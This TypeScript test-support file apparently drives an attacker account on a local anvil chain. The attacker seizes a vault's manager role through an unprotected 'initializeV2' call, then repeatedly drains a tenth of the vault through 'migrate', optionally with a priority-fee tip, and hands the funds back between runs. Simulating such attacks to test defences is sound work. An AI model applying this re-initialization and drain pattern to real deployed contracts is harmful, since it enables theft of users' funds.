import { encodeFunctionData, type Hex } from 'viem'
import type { Stack } from '../../test/support/stack.ts'

const send = (
  stack: Stack,
  to: string,
  data: string,
  fees: Readonly<Record<string, Hex>> = {},
): Promise<Hex> =>
  stack.anvil.rpc<Hex>('eth_sendTransaction', [
    { from: stack.deployment.actors.attacker.address, to, data, gas: '0xf4240', ...fees },
  ])

const vaultUnits = async (stack: Stack): Promise<bigint> => {
  const { vault } = stack.deployment
  const data = encodeFunctionData({ abi: vault.abi, functionName: 'totalAssets' })
  return BigInt(await stack.anvil.rpc<string>('eth_call', [{ to: vault.address, data }, 'latest']))
}

/** The attacker takes the vault's forgotten manager role, once. */
export const takeManagerRole = async (stack: Stack): Promise<void> => {
  const { vault, actors } = stack.deployment
  await send(
    stack,
    vault.address,
    encodeFunctionData({
      abi: vault.abi,
      functionName: 'initializeV2',
      args: [actors.attacker.address],
    }),
  )
  await stack.anvil.rpc('evm_mine')
}

/** Queues a robbery of a tenth of the vault at a tip; returns its hash, and what it takes in units. */
export const sendAttack = async (
  stack: Stack,
  tipWei?: bigint,
): Promise<{ readonly hash: Hex; readonly units: bigint }> => {
  const { vault, actors } = stack.deployment
  const units = (await vaultUnits(stack)) / 10n
  const hash = await send(
    stack,
    vault.address,
    encodeFunctionData({
      abi: vault.abi,
      functionName: 'migrate',
      args: [actors.attacker.address, units],
    }),
    tipWei === undefined
      ? {}
      : {
          maxPriorityFeePerGas: `0x${tipWei.toString(16)}`,
          maxFeePerGas: `0x${(tipWei + 20_000_000_000n).toString(16)}`,
        },
  )
  return { hash, units }
}

/** Queues a robbery of a tenth of the vault; returns what it takes, in units. */
export const rob = async (stack: Stack): Promise<bigint> => (await sendAttack(stack)).units

/** Queues the return of the loot, so that the vault can be robbed again and again. */
export const giveBack = async (stack: Stack, units: bigint): Promise<void> => {
  const { vault, usd } = stack.deployment
  await send(
    stack,
    usd.address,
    encodeFunctionData({ abi: usd.abi, functionName: 'transfer', args: [vault.address, units] }),
  )
}
